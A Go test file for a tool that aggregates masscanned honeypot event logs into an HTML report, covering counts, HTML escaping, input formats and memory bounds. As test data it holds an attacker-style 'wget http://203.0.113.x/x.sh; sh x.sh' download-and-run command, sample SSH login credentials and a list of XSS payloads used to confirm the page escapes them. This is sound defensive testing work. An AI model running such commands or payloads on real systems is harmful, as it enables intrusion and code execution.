package report

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"os"
	"regexp"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
)

// want is what a test computes from the events on its own (through
// encoding/json into maps), to compare with the aggregator.
type want struct {
	events, syns, conns, app, creds, credsOK, cmds uint64
	verdicts                                       map[string]uint64
	sources                                        map[string]bool
}

func expect(t *testing.T, data []byte) want {
	t.Helper()
	w := want{verdicts: map[string]uint64{}, sources: map[string]bool{}}
	for _, line := range bytes.Split(data, []byte("\n")) {
		if len(bytes.TrimSpace(line)) == 0 {
			continue
		}
		var m map[string]any
		if err := json.Unmarshal(line, &m); err != nil {
			t.Fatalf("fixture line %q: %v", line, err)
		}
		w.events++
		w.verdicts[m["verdict"].(string)]++
		if s, ok := m["ip_src"].(string); ok {
			w.sources[s] = true
		}
		if f, _ := m["tcp_flags"].(string); m["kind"] == nil && m["proto"] == "tcp" && strings.Contains(f, "S") && !strings.Contains(f, "A") {
			w.syns++
		}
		if m["kind"] == "conn-end" {
			w.conns++
		}
		if a, ok := m["app"].(map[string]any); ok {
			w.app++
			if au, ok := a["auth"].(map[string]any); ok {
				w.creds++
				if au["success"] == true {
					w.credsOK++
				}
			}
			if c, ok := a["command"]; ok && c != "" {
				w.cmds++
			}
		}
	}
	return w
}

func render(t testing.TB, a *Aggregator) string {
	t.Helper()
	var b bytes.Buffer
	if err := a.Render(&b, "test report", time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC)); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// byID returns the text of the element with id in the page.
func byID(t *testing.T, page, id string) string {
	t.Helper()
	re := regexp.MustCompile(`id="` + regexp.QuoteMeta(id) + `"[^>]*>(?:<span class="bar"[^>]*></span><span class="n">)?([^<]*)<`)
	m := re.FindStringSubmatch(page)
	if m == nil {
		t.Fatalf("no element %q in the page", id)
	}
	return m[1]
}

// TestLabFixture: the events of a real run (the e2e report lab: ping,
// curl with a password, HTTPS, FTP, nmap, SSH logins and a command) are
// counted exactly, and the page shows those numbers.
func TestLabFixture(t *testing.T) {
	data, err := os.ReadFile("testdata/lab.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	w := expect(t, data)
	a := New(Options{})
	if err := a.Read("lab.jsonl", bytes.NewReader(data)); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name      string
		got, want uint64
	}{
		{"events", a.Events, w.events}, {"SYNs", a.SYNs, w.syns}, {"connections", a.Conns, w.conns},
		{"app records", a.AppRecords, w.app}, {"credentials", a.Credentials, w.creds},
		{"accepted credentials", a.CredentialsOK, w.credsOK}, {"commands", a.Commands, w.cmds},
		{"sources", uint64(a.sources.Len()), uint64(len(w.sources))},
	} {
		if c.got != c.want {
			t.Errorf("%s: got %d, want %d", c.name, c.got, c.want)
		}
	}
	if w.creds == 0 || w.cmds == 0 || w.syns == 0 || w.conns == 0 {
		t.Fatalf("fixture lacks variety: %+v", w)
	}
	page := render(t, a)
	for id, n := range map[string]uint64{"total-events": w.events, "total-credentials": w.creds, "total-commands": w.cmds,
		"total-syns": w.syns, "total-conns": w.conns, "verdict-total": w.events,
		"verdict-send": w.verdicts["send"], "verdict-recv": w.verdicts["recv"], "verdict-drop": w.verdicts["drop"]} {
		if got := byID(t, page, id); got != fmtN(n) {
			t.Errorf("%s: page says %q, want %s", id, got, fmtN(n))
		}
	}
	if got := byID(t, page, "total-sources"); got != fmtN(uint64(len(w.sources))) {
		t.Errorf("sources: page says %q, want %d", got, len(w.sources))
	}
	// what the clients did shows: the credentials, the command and its URL,
	// the HTTPS request, the fingerprints
	for _, s := range []string{
		"hunter2", "bob", "secret",
		"cd /tmp; wget http://203.0.113.7/x.sh; sh x.sh", "http://203.0.113.7/x.sh",
		"https://198.51.100.2/.env", "http://198.51.100.2/admin", "http://[2001:db8:100::2]:8080/wp-login.php",
		"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10", "t13i3111h2_e8f1e7e78f70_b26ce05bbdd6",
		"4:64+0:0:1460:mss*44,10:mss,sok,ts,nop,ws:df,id+:0", "curl/7.88.1",
		"&lt;script&gt;alert(&#34;ua&#34;)&lt;/script&gt;", "&lt;script&gt;alert(2)&lt;/script&gt;",
	} {
		if !strings.Contains(page, s) && !strings.Contains(html.UnescapeString(page), s) {
			t.Errorf("page lacks %q", s)
		}
	}
	checkPage(t, page)
}

// checkPage parses the page as a browser would: one script element (ours),
// no event-handler attribute, no element loading anything from elsewhere.
func checkPage(t *testing.T, page string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	scripts := 0
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			switch n.Data {
			case "script":
				scripts++
			case "img", "iframe", "link", "object", "embed", "image", "use", "foreignObject", "a":
				for _, at := range n.Attr {
					if at.Key == "href" && n.Data == "a" && strings.HasPrefix(at.Val, "#") {
						continue
					}
					if at.Key == "src" || at.Key == "href" || strings.HasSuffix(at.Key, ":href") {
						t.Errorf("element <%s %s=%q> in the page", n.Data, at.Key, at.Val)
					}
				}
				if n.Data != "a" {
					t.Errorf("element <%s> in the page", n.Data)
				}
			}
			for _, at := range n.Attr {
				if strings.HasPrefix(strings.ToLower(at.Key), "on") {
					t.Errorf("event handler %s=%q on <%s>", at.Key, at.Val, n.Data)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	if scripts != 1 {
		t.Errorf("%d script elements, want 1 (the sort script)", scripts)
	}
	if strings.Contains(page, "http-equiv=\"Content-Security-Policy\"") == false {
		t.Error("no Content-Security-Policy")
	}
}

// hostile strings an attacker controls: user agents, users, passwords,
// commands, paths, banners. Each must reach the page as text.
var hostile = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`'><svg onload=alert(1)>`,
	`</td></tr></table><script>alert(1)</script>`,
	`</title><script>alert(1)</script>`,
	`javascript:alert(1)`,
	`<!--`,
	"]]><script>alert(1)</script>",
}

func TestEscaping(t *testing.T) {
	for i, h := range hostile {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			hj, _ := json.Marshal(h)
			q := string(hj)
			lines := []string{
				`{"ts":"2026-11-30T10:00:00Z","verdict":"send","layer":"tcp","ip_src":"203.0.113.9","ip_dst":"198.51.100.2","proto":"tcp","port_src":4000,"port_dst":80,"app":{"proto":"http","method":"GET","path":` + q + `,"host":` + q + `,"user_agent":` + q + `,"auth":{"protocol":"http","user":` + q + `,"password":` + q + `,"success":false}}}`,
				`{"ts":"2026-11-30T10:00:01Z","kind":"app","verdict":"recv","layer":"tcp","ip_src":"203.0.113.9","ip_dst":"198.51.100.2","proto":"tcp","port_src":4001,"port_dst":22,"app":{"proto":"ssh","banner":` + q + `}}`,
				`{"ts":"2026-11-30T10:00:02Z","kind":"app","verdict":"recv","layer":"tcp","ip_src":"203.0.113.9","ip_dst":"198.51.100.2","proto":"tcp","port_src":4001,"port_dst":22,"app":{"proto":"ssh","command":` + q + `,"urls":[` + q + `],"hosts":[` + q + `]}}`,
				`{"ts":"2026-11-30T10:00:03Z","verdict":"drop","reason":` + q + `,"layer":"tcp","ip_src":"203.0.113.9","ip_dst":"198.51.100.2","proto":"tcp","port_src":4002,"port_dst":443,"tcp_flags":"S","tcp_fp":{"raw":` + q + `,"os":` + q + `}}`,
				`{"ts":"2026-11-30T10:00:04Z","kind":"app","verdict":"recv","layer":"tcp","ip_src":"203.0.113.9","ip_dst":"198.51.100.2","proto":"tcp","port_src":4003,"port_dst":443,"app":{"proto":` + q + `,"ja3":` + q + `,"ja3_hash":` + q + `,"ja4":` + q + `,"sni":` + q + `,"hassh":` + q + `,"kex_algorithms":[]}}`,
				`{"ts":"2026-11-30T10:00:05Z","verdict":"send","reply":` + q + `,"suppressed":` + q + `,"layer":` + q + `,"ip_src":` + q + `}`,
			}
			a := New(Options{})
			if err := a.Read(h, strings.NewReader(strings.Join(lines, "\n"))); err != nil {
				t.Fatal(err)
			}
			page := render(t, a)
			checkPage(t, page)
			if strings.ContainsAny(h, "<>\"'") && strings.Contains(page, h) {
				t.Errorf("the hostile string %q is in the page unescaped", h)
			}
			// and it is all there as text
			doc, err := html.Parse(strings.NewReader(page))
			if err != nil {
				t.Fatal(err)
			}
			var txt strings.Builder
			var walk func(n *html.Node)
			walk = func(n *html.Node) {
				if n.Type == html.TextNode {
					txt.WriteString(n.Data)
					txt.WriteByte('\n')
				}
				for c := n.FirstChild; c != nil; c = c.NextSibling {
					walk(c)
				}
			}
			walk(doc)
			if n := strings.Count(txt.String(), h); n < 10 {
				t.Errorf("the hostile string shows %d times as text, want it in every table (>= 10)", n)
			}
		})
	}
}

func TestReadErrors(t *testing.T) {
	good := `{"ts":"2026-11-30T10:00:00Z","verdict":"send","layer":"arp"}`
	for _, c := range []struct {
		name, in, err string
	}{
		{"invalid json", good + "\n" + good + "\n{\"ts\":", "x.json:3: invalid JSON"},
		{"not an object", good + "\n[1,2]", "x.json:2: not a masscanned event"},
		{"wrong type", `{"ts":"2026-11-30T10:00:00Z","verdict":"send","port_src":"eighty"}`, "x.json:1: not a masscanned event: \"port_src\""},
		{"no ts", `{"verdict":"send"}`, "x.json:1: not a masscanned event: no ts or verdict"},
		{"null", `null`, "x.json:1: not a masscanned event"},
		{"bad ts", `{"ts":"yesterday","verdict":"send"}`, `x.json:1: bad ts "yesterday"`},
		{"trailing garbage", good + " x", "x.json:1: invalid JSON"},
		{"bad gzip", "\x1f\x8b\x08\x00garbage", "x.json:"},
	} {
		t.Run(c.name, func(t *testing.T) {
			a := New(Options{})
			err := a.Read("x.json", strings.NewReader(c.in))
			if err == nil || !strings.Contains(err.Error(), c.err) {
				t.Fatalf("error %v, want one containing %q", err, c.err)
			}
		})
	}
}

func TestReadFormats(t *testing.T) {
	lines := `{"ts":"2026-11-30T10:00:00Z","verdict":"send","layer":"arp"}` + "\r\n\n   \n" +
		`{"ts":"2026-11-30T10:00:01.5+01:00","verdict":"drop","reason":"bad-cookie","layer":"tcp"}` // no final newline
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write([]byte(lines))
	zw.Close()
	// two gzip members concatenated, as "cat a.gz b.gz" gives
	var gz2 bytes.Buffer
	zw = gzip.NewWriter(&gz2)
	zw.Write([]byte(lines + "\n"))
	zw.Close()
	two := append(append([]byte{}, gz2.Bytes()...), gz2.Bytes()...)
	// a long line (a big raw field) beyond the reader's buffer
	long := `{"ts":"2026-11-30T10:00:00Z","verdict":"recv","layer":"tcp","app":{"proto":"http","raw":"` + strings.Repeat("A", 3<<20) + `"}}`
	for _, c := range []struct {
		name  string
		in    []byte
		n     uint64
		drops uint64
	}{
		{"plain", []byte(lines), 2, 1},
		{"gzip", gz.Bytes(), 2, 1},
		{"gzip multistream", two, 4, 2},
		{"long line", []byte(long + "\n" + long), 2, 0},
	} {
		t.Run(c.name, func(t *testing.T) {
			a := New(Options{})
			if err := a.Read("in", bytes.NewReader(c.in)); err != nil {
				t.Fatal(err)
			}
			if a.Events != c.n || a.verdictN("drop") != c.drops {
				t.Errorf("events %d drops %d, want %d %d", a.Events, a.verdictN("drop"), c.n, c.drops)
			}
			if len(a.Inputs) != 1 || a.Inputs[0].Events != c.n {
				t.Errorf("inputs %+v", a.Inputs)
			}
		})
	}
}

// TestFlexibleFields: application fields of unexpected types (a command
// as a number, a user agent as an object, auth as a string) neither fail
// the line nor get lost.
func TestFlexibleFields(t *testing.T) {
	in := strings.Join([]string{
		`{"ts":"2026-11-30T10:00:00Z","verdict":"send","layer":"tcp","proto":"tcp","port_dst":445,"app":{"proto":"smb","command":37}}`,
		`{"ts":"2026-11-30T10:00:00Z","verdict":"send","layer":"tcp","app":{"proto":"x","user_agent":{"a":1},"auth":"nope","urls":"http://a/"}}`,
		`{"ts":"2026-11-30T10:00:00Z","verdict":"send","layer":"tcp","app":{"proto":"vnc","auth":{"protocol":"vnc","user":"","hash":"00ff","format":"vnc-des","success":"yes"}}}`,
	}, "\n")
	a := New(Options{})
	if err := a.Read("in", strings.NewReader(in)); err != nil {
		t.Fatal(err)
	}
	if a.Commands != 1 || a.commands.get("smb\x0037") == nil {
		t.Errorf("numeric command not counted: %d", a.Commands)
	}
	if a.userAgents.get("x\x00"+`{"a":1}`) == nil {
		t.Error("object user agent not kept as its JSON")
	}
	if a.Credentials != 1 || a.CredentialsOK != 0 || a.creds.get("vnc\x00\x00\x0000ff\x00vnc-des") == nil {
		t.Errorf("credentials %d ok %d", a.Credentials, a.CredentialsOK)
	}
	if a.URLs != 1 {
		t.Errorf("urls %d", a.URLs)
	}
	page := render(t, a)
	if !strings.Contains(page, "00ff") || !strings.Contains(page, "vnc-des") {
		t.Error("hash credential not shown")
	}
}

func TestCounterPrune(t *testing.T) {
	c := newCounter(8)
	var total uint64
	for i := range 1000 {
		// "heavy" every other add, a new key otherwise
		k := "heavy"
		if i%2 == 1 {
			k = fmt.Sprint("rare", i)
		}
		c.add(k, int64(i))
		total++
		if c.Len() > 8 {
			t.Fatalf("counter holds %d keys, cap 8", c.Len())
		}
	}
	var listed uint64
	for _, e := range c.Top(0) {
		listed += e.N
	}
	if listed+c.PrunedN != total || c.Total != total {
		t.Errorf("listed %d + pruned %d != total %d (Total %d)", listed, c.PrunedN, total, c.Total)
	}
	if top := c.Top(1); len(top) != 1 || top[0].Key != "heavy" || top[0].N != 500 {
		t.Errorf("heavy hitter lost: %+v", top[0])
	}
	if c.Exact() {
		t.Error("Exact after pruning")
	}
	if e := c.get("heavy"); e.First != 0 || e.Last != 998 {
		t.Errorf("first/last %d %d", e.First, e.Last)
	}
}

func TestHistogram(t *testing.T) {
	for _, c := range []struct {
		name     string
		span     int64 // seconds covered
		every    int64
		maxW     int64 // widest bucket expected
		minWidth int64
	}{
		{"seconds", 30, 1, 1, 1},
		{"minutes", 3600, 7, 60, 30},
		{"day", 86400, 13, 1800, 600},
		{"year", 365 * 86400, 3600, 7 * 86400, 86400},
	} {
		t.Run(c.name, func(t *testing.T) {
			h := newHistogram(64)
			var n uint64
			base := int64(1_800_000_000)
			for s := int64(0); s < c.span; s += c.every {
				h.add(base+s, int(s%3))
				n++
			}
			if len(h.b) > 64 {
				t.Fatalf("%d buckets kept, max 64", len(h.b))
			}
			start, w, bars := h.series(120)
			if len(bars) > 120 || len(bars) == 0 {
				t.Fatalf("%d bars", len(bars))
			}
			if w > c.maxW || w < c.minWidth {
				t.Errorf("width %d, want between %d and %d", w, c.minWidth, c.maxW)
			}
			if start > base || start+w*int64(len(bars)) <= base+c.span-c.every {
				t.Errorf("bars [%d, +%d*%d) do not cover [%d, %d]", start, len(bars), w, base, base+c.span)
			}
			var sum uint64
			for _, b := range bars {
				for _, v := range b {
					sum += v
				}
			}
			if sum != n {
				t.Errorf("bars sum to %d, %d events", sum, n)
			}
		})
	}
	if floorTo(-1, 60) != -60 || floorTo(59, 60) != 0 {
		t.Error("floorTo")
	}
}

// TestBounded: more distinct sources and credentials than the caps; the
// totals stay exact, the tables bounded, and the page says what was left
// out.
func TestBounded(t *testing.T) {
	a := New(Options{MaxItems: 100, MaxSources: 200, Top: 10})
	const n = 20000
	var buf bytes.Buffer
	for i := range n {
		buf.Reset()
		fmt.Fprintf(&buf, `{"ts":"2026-11-30T10:%02d:%02dZ","verdict":"send","layer":"tcp","ip_src":"10.%d.%d.%d","proto":"tcp","port_dst":%d,"app":{"proto":"ssh","auth":{"protocol":"ssh","user":"root","password":"pw%d","success":false}}}`,
			(i/60)%60, i%60, i>>16&255, i>>8&255, i&255, 22+i%3, i%1000)
		if err := a.AddLine(buf.Bytes()); err != nil {
			t.Fatal(err)
		}
	}
	if a.Events != n || a.Credentials != n || a.sources.Total != n {
		t.Errorf("events %d credentials %d", a.Events, a.Credentials)
	}
	if a.creds.Len() > 100 || a.sources.Len() > 200 || a.nets.Len() > 200 {
		t.Errorf("kept %d credentials, %d sources", a.creds.Len(), a.sources.Len())
	}
	page := render(t, a)
	if got := byID(t, page, "total-credentials"); got != fmtN(n) {
		t.Errorf("page says %s credentials", got)
	}
	if got := byID(t, page, "total-sources"); !strings.HasPrefix(got, "≥ ") {
		t.Errorf("page says %q sources, want a lower bound", got)
	}
	if !strings.Contains(page, `id="limits"`) || !strings.Contains(page, "less frequent credentials") {
		t.Error("the page does not say what was left out")
	}
	if strings.Count(page, "<tr>") > 100+10*8+50 {
		t.Errorf("%d table rows", strings.Count(page, "<tr>"))
	}
}

func TestEmpty(t *testing.T) {
	a := New(Options{})
	if err := a.Read("empty", strings.NewReader("")); err != nil {
		t.Fatal(err)
	}
	page := render(t, a)
	checkPage(t, page)
	if byID(t, page, "total-events") != "0" || !strings.Contains(page, "No events.") {
		t.Error("empty report")
	}
}

func TestFmtN(t *testing.T) {
	for n, s := range map[uint64]string{0: "0", 999: "999", 1000: "1,000", 123456: "123,456", 1234567: "1,234,567"} {
		if fmtN(n) != s {
			t.Errorf("fmtN(%d) = %q", n, fmtN(n))
		}
	}
}

// benchLines are synthetic events shaped like a busy sensor's: frames,
// HTTP requests, SSH logins, command lines, from many sources.
func benchLines(n int) [][]byte {
	out := make([][]byte, n)
	for i := range out {
		ts := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC).Add(time.Duration(i) * 2 * time.Second).Format("2006-01-02T15:04:05.000000000Z07:00")
		src := fmt.Sprintf("%d.%d.%d.%d", 1+i%200, i>>8&255, i>>4&255, i&255)
		switch i % 5 {
		case 0:
			out[i] = fmt.Appendf(nil, `{"ts":"%s","verdict":"send","layer":"tcp","mac_src":"de:15:bb:1b:fb:57","mac_dst":"52:1c:4e:c2:a4:1f","eth_type":2048,"ip_src":"%s","ip_dst":"198.51.100.2","proto":"tcp","port_src":%d,"port_dst":%d,"tcp_flags":"S","seq":3881360366,"reply":"syn-ack","reply_len":74,"tcp_fp":{"raw":"4:64+0:0:1460:mss*44,10:mss,sok,ts,nop,ws:df,id+:0"}}`, ts, src, 1024+i%60000, []int{22, 23, 80, 443, 445, 3389}[i%6])
		case 1:
			out[i] = fmt.Appendf(nil, `{"ts":"%s","verdict":"drop","reason":"bad-cookie","layer":"tcp","ip_src":"%s","ip_dst":"198.51.100.2","proto":"tcp","port_src":40000,"port_dst":80,"tcp_flags":"A"}`, ts, src)
		case 2:
			out[i] = fmt.Appendf(nil, `{"ts":"%s","verdict":"send","layer":"tcp","ip_src":"%s","ip_dst":"198.51.100.2","proto":"tcp","port_src":58932,"port_dst":80,"tcp_flags":"PA","payload_len":141,"reply":"data","reply_len":447,"app":{"proto":"http","method":"GET","path":"/p%d","version":"HTTP/1.1","host":"198.51.100.2","user_agent":"Mozilla/5.0 zgrab/0.%d","headers":["Host","User-Agent","Accept"],"raw":"R0VUIC9hZG1pbiBIVFRQLzEuMQ0KSG9zdDogMTk4LjUxLjEwMC4yDQpBdXRob3JpemF0aW9uOiBCYXNpYyBZV1J0YVc0NmFIVnVkR1Z5TWc9PQ0KVXNlci1BZ2VudDogY3VybC83Ljg4LjENCkFjY2VwdDogKi8qDQoNCg=="}}`, ts, src, i%5000, i%50)
		case 3:
			out[i] = fmt.Appendf(nil, `{"ts":"%s","kind":"app","verdict":"recv","layer":"tcp","ip_src":"%s","ip_dst":"198.51.100.2","proto":"tcp","port_src":38718,"port_dst":22,"app":{"proto":"ssh","auth_method":"password","user":"root","password":"pw%d","auth":{"protocol":"ssh","user":"root","password":"pw%d","success":false},"client_version":"SSH-2.0-Go","attempt":1,"hassh":"472b5de333ad665af5cbf10ff892c4df"}}`, ts, src, i%30000, i%30000)
		default:
			out[i] = fmt.Appendf(nil, `{"ts":"%s","kind":"app","verdict":"recv","layer":"tcp","ip_src":"%s","ip_dst":"198.51.100.2","proto":"tcp","port_src":38722,"port_dst":22,"app":{"proto":"ssh","session_request":"exec","command":"cd /tmp; wget http://203.0.113.%d/x.sh; sh x.sh","urls":["http://203.0.113.%d/x.sh"],"hosts":["203.0.113.%d"]}}`, ts, src, i%250, i%250, i%250)
		}
	}
	return out
}

// BenchmarkAggregate: ns per event of AddLine on a realistic mix.
func BenchmarkAggregate(b *testing.B) {
	lines := benchLines(100000)
	a := New(Options{})
	b.ReportAllocs()
	b.ResetTimer()
	for i := range b.N {
		if err := a.AddLine(lines[i%len(lines)]); err != nil {
			b.Fatal(err)
		}
	}
}

// TestMillion: a million events aggregate and render in bounded memory
// with exact totals (skipped with -short).
func TestMillion(t *testing.T) {
	if testing.Short() {
		t.Skip("-short")
	}
	lines := benchLines(200000)
	a := New(Options{})
	for range 5 {
		for _, l := range lines {
			if err := a.AddLine(l); err != nil {
				t.Fatal(err)
			}
		}
	}
	if a.Events != 1000000 || a.Credentials != 200000 || a.Commands != 200000 || a.SYNs != 200000 {
		t.Errorf("events %d credentials %d commands %d SYNs %d", a.Events, a.Credentials, a.Commands, a.SYNs)
	}
	if a.creds.Len() > 10000 || a.sources.Len() > 100000 {
		t.Errorf("kept %d credentials, %d sources", a.creds.Len(), a.sources.Len())
	}
	page := render(t, a)
	if got := byID(t, page, "total-events"); got != "1,000,000" {
		t.Errorf("page says %s events", got)
	}
	if len(page) > 20<<20 {
		t.Errorf("page of %d bytes", len(page))
	}
}
